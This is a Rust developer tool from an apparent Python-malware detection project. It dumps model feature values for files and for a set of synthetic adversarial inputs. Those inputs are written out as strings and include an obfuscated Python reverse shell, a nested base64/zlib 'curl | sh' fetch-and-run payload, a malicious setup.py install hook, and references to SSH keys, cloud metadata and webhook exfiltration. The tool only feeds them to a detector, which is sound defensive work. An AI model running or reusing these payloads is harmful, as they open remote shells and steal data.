//! Dumps the features of many inputs, one line each, so two versions of the feature code can be
//! compared byte for byte (the model was trained on these values; a speed-up must not move
//! them): `cargo run --release -p shrike-pyml --example feature_dump -- OUT [DIR|FILE]...`.
//!
//! Inputs: every file under the given directories (recursively; `.txt` files also one input per
//! line), each file also cut at a third and two thirds (unterminated strings and brackets), and
//! a fixed set of synthetic adversarial inputs. Each line holds the input's label, the named
//! features as `f32` bit patterns, the hashed buckets and a digest of the explained n-grams.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::disallowed_methods,
    clippy::print_stdout,
    reason = "a developer tool over local files"
)]

use shrike_pyml::features::{extract, extract_with};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

fn files(dir: &Path, out: &mut Vec<PathBuf>) {
    if dir.is_file() {
        out.push(dir.to_path_buf());
        return;
    }
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<PathBuf> = rd.map(|e| e.unwrap().path()).collect();
    entries.sort();
    for p in entries {
        if p.is_symlink() {
            continue;
        }
        if p.is_dir() {
            files(&p, out);
        } else if p.is_file() {
            out.push(p);
        }
    }
}

fn cut(s: &str, at: usize) -> &str {
    let at = (0..=at.min(s.len()))
        .rev()
        .find(|&i| s.is_char_boundary(i))
        .unwrap_or(0);
    &s[..at]
}

fn synthetic() -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, s: String| v.push((format!("synthetic:{name}"), s));
    add("empty", String::new());
    add("unterminated-single", "x = 'abc\ny = \"def".into());
    add("unterminated-triple", "x = '''abc\n\ndef\\x41".into());
    add("unterminated-triple-dq", "\"\"\"never\nclosed \\".into());
    add("backslash-end", "'\\".into());
    add("brackets-1mb", "[".repeat(1 << 20));
    add("dots-100k", ".".repeat(100_000));
    add("a-dot-chain", "a.".repeat(50_000));
    add("a-dot-space-chain", "a . ".repeat(20_000));
    add(
        "long-dotted",
        format!(
            "{} = 1\nx.y (z)\nos . path . join",
            "abc.".repeat(200) + "d"
        ),
    );
    let b64: String = {
        let inner = "import socket,subprocess,os;s=socket.socket();s.connect(('10.1.1.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n".repeat(3000);
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(inner)
    };
    add(
        "huge-b64",
        format!("import base64\nexec(base64.b64decode('{b64}'))\n"),
    );
    add(
        "huge-b64-lines",
        format!(
            "import base64\nexec(base64.b64decode('''{}'''))\n",
            b64.as_bytes()
                .chunks(76)
                .map(|c| std::str::from_utf8(c).unwrap())
                .collect::<Vec<_>>()
                .join("\n")
        ),
    );
    let zb64 = {
        let inner = "import os;os.system('curl http://1.2.3.4/x | sh')";
        let z = miniz_oxide::deflate::compress_to_vec_zlib(inner.as_bytes(), 6);
        use base64::Engine as _;
        let once = base64::engine::general_purpose::STANDARD.encode(z);
        let twice = base64::engine::general_purpose::STANDARD
            .encode(format!("import base64;exec(base64.b64decode('{once}'))"));
        format!("exec(__import__('base64').b64decode(\"{twice}\"))")
    };
    add("nested-zlib-b64", zb64);
    let hexs: String = "import os\nos.system('id')\n"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    add("hex-blob", format!("exec(bytes.fromhex('{hexs}'))"));
    add(
        "x-escapes",
        format!(
            "exec('{}')",
            "import os; os.system(\"id\")"
                .bytes()
                .map(|b| format!("\\x{b:02x}"))
                .collect::<String>()
        ),
    );
    add(
        "mixed-escapes",
        "s = b'\\x4' + '\\u00e9\\U0001F600\\N{DASH}\\777\\0\\12\\q\\\n\\é' + r'\\x41\\'' + rb\"\\\\\" + Rb'x' + bR'y' + f'{a}' + u'\\xZZ' + '\\uZZZZ'".into(),
    );
    add("many-escapes", "'\\x41\\101\\u0041'".repeat(10_000));
    add(
        "weird-names",
        "O0O0O0 = lIlIlI1 + _0x1f2e + _0x + IIIIIIII0 + OOOOOO + a.b.O0O0O0O0 + l1l1l1l1".into(),
    );
    add(
        "unicode",
        "é = 'ü'; ∑ = \"\\é\"\n\u{0}\u{7f}\u{ffff}\u{10ffff} # ✓\nπ.σ.τ(1)".into(),
    );
    add("crlf", "import os\r\nos.system('x')\r\n# c\r\n\r\n".into());
    add(
        "numbers",
        "x = 0x1F + 0777L + 1e10 + .5 + 1.2.3 + 3j + 1_000 + 0b1 + 1..2".into(),
    );
    add(
        "ops",
        "a==b!=c<=d>=e**f//g->h+=i-=j*=k/=l|=m&=n<<o>>p:=q<>r`s`;t;;u@v$w?x!y".into(),
    );
    add("reverse", "exec('dlrow'[::-1]); x[:: -1]; y[::-1".into());
    add("long-line", format!("x = '{}'\n", "ab\"c ".repeat(60_000)));
    add(
        "semicolons",
        "import os;import sys;x=1;y=2;os.system('ls')\n".repeat(100),
    );
    add(
        "strings-patterns",
        "a='/bin/sh -i'; b='curl http://10.0.0.1/x|sh'; c='stratum+tcp://pool'; d='~/.ssh/id_rsa'; e='http://169.254.169.254/latest'; f='https://discord.com/api/webhooks/1'; g='C:\\\\x.exe'; h='KUBERNETES.DEFAULT.svc'; i='TOKEN'; j='HTTP://[::1]/'; k='ftp://x'".into(),
    );
    add(
        "exec-code-string",
        "exec(\"import socket,os\\ns=socket.socket()\\ns.connect(('10.9.9.9',1))\\nos.dup2(s.fileno(),0)\")\nexec 'import os; os.system(\"sh\")'".into(),
    );
    add(
        "class-hooks",
        "from setuptools import setup\nclass install(x): pass\nclass Foo(develop):\n  def run(self): os.system('id')\nsetup(cmdclass={'install': install})".into(),
    );
    // Deterministic junk: printable-heavy and binary-heavy.
    let mut x = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    for k in 0..40 {
        let n = 1 + (next() % 20_000) as usize;
        let alphabet: &[u8] = if k % 2 == 0 {
            b"abcxyzO0Il1_ .,;:'\"\\\n\t()[]{}=+-*/#rbuf\x00\xff\xc3\xa9"
        } else {
            b"'\"\\xu0123456789abcdefABCDEF\nrb#"
        };
        let bytes: Vec<u8> = (0..n)
            .map(|_| {
                if k % 5 == 4 {
                    next() as u8
                } else {
                    alphabet[(next() % alphabet.len() as u64) as usize]
                }
            })
            .collect();
        add(
            &format!("junk-{k}"),
            String::from_utf8_lossy(&bytes).into_owned(),
        );
    }
    v
}

fn line(label: &str, src: &str, out: &mut String) {
    let f = extract(src);
    let mut grams = Vec::new();
    let g = extract_with(src, Some(&mut grams));
    assert_eq!(f, g, "extract and extract_with agree");
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for gram in &grams {
        for b in gram
            .text
            .bytes()
            .chain(gram.bucket.to_le_bytes())
            .chain([0xff])
        {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
    }
    let _ = write!(out, "{}\t", label.replace(['\t', '\n'], " "));
    for x in &f.named {
        let _ = write!(out, "{:08x} ", x.to_bits());
    }
    out.push('\t');
    for b in &f.hashed {
        let _ = write!(out, "{b},");
    }
    let _ = writeln!(out, "\t{} {h:016x}", grams.len());
}

fn main() {
    let mut args = std::env::args().skip(1);
    let dest = args.next().expect("usage: feature_dump OUT [DIR|FILE]...");
    let mut paths = Vec::new();
    for d in args {
        files(Path::new(&d), &mut paths);
    }
    let mut out = String::new();
    let mut inputs = 0usize;
    for p in &paths {
        let bytes = std::fs::read(p).unwrap();
        let src = String::from_utf8_lossy(&bytes);
        let label = p.display().to_string();
        line(&label, &src, &mut out);
        line(&format!("{label}@1/3"), cut(&src, src.len() / 3), &mut out);
        line(
            &format!("{label}@2/3"),
            cut(&src, src.len() * 2 / 3),
            &mut out,
        );
        inputs += 3;
        if p.extension().is_some_and(|e| e == "txt") {
            for (n, l) in src.lines().enumerate() {
                line(&format!("{label}:{}", n + 1), l, &mut out);
                inputs += 1;
            }
        }
    }
    for (label, src) in synthetic() {
        line(&label, &src, &mut out);
        inputs += 1;
    }
    std::fs::write(&dest, out).unwrap();
    println!("{} files, {inputs} inputs -> {dest}", paths.len());
}
